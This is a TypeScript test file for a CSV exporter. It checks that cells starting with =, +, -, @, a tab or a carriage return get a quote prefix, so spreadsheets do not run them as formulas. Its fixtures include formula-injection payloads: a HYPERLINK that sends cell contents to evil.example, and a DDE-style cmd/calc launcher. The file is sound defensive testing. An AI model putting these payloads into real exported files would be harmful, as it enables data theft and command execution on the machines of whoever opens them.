import { csvParseRows } from 'd3';
import { describe, expect, it } from 'vitest';
import { formatCsvCell } from '../../src/lib/csv/formatCsvCell';
import { formatFactsCsv } from '../../src/lib/data/formatFactsCsv';
import type { CompiledFact, CompiledSource } from '../../src/lib/data/types';
import storyData from '../fixtures/stories/story-data.json';

describe('CSV cells that a spreadsheet would run as a formula (OWASP CSV injection)', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"点此")', `"'=HYPERLINK(""http://evil.example/?""&A1,""点此"")"`],
    ["@SUM(1+1)*cmd|' /C calc'!A0", `"'@SUM(1+1)*cmd|' /C calc'!A0"`],
    ['+1+1', `"'+1+1"`],
    ['-2+3', `"'-2+3"`],
    ['\t=1', `"'\t=1"`],
    ['\r=1', `"'\r=1"`],
  ])('%j is quoted and prefixed with a single quote', (cell, written) => {
    expect(formatCsvCell(cell)).toBe(written);
  });

  it('leaves ordinary cells as d3 writes them', () => {
    expect(formatCsvCell('约58万人')).toBe('约58万人');
    expect(formatCsvCell('甲,乙')).toBe('"甲,乙"');
    expect(formatCsvCell('3214000000')).toBe('3214000000');
    expect(formatCsvCell('a=b')).toBe('a=b');
  });

  it('the facts CSV neutralises a formula in a note or an outlet, and still parses to the same text with the quote', () => {
    const fact = { ...(storyData.facts[0] as unknown as CompiledFact), note: '=HYPERLINK("http://evil.example","x")' };
    const source = { ...(storyData.sources[0] as unknown as CompiledSource), id: fact.sourceId, outlet: '@SUM(A1:A9)' };
    const csv = formatFactsCsv([fact], {
      sources: new Map([[source.id, source]]),
      places: {},
      site: 'https://shanhai.example.org',
    });
    const [header, row] = csvParseRows(csv.replace(/^\uFEFF/, ''));
    const cell = (name: string) => row?.[header?.indexOf(name) ?? -1];
    expect(cell('note')).toBe(`'=HYPERLINK("http://evil.example","x")`);
    expect(cell('source_outlet')).toBe(`'@SUM(A1:A9)`);
    expect(cell('fact_id')).toBe(fact.id);
    expect(csv).not.toMatch(/(^|,)[=+\-@]/m);
  });
});
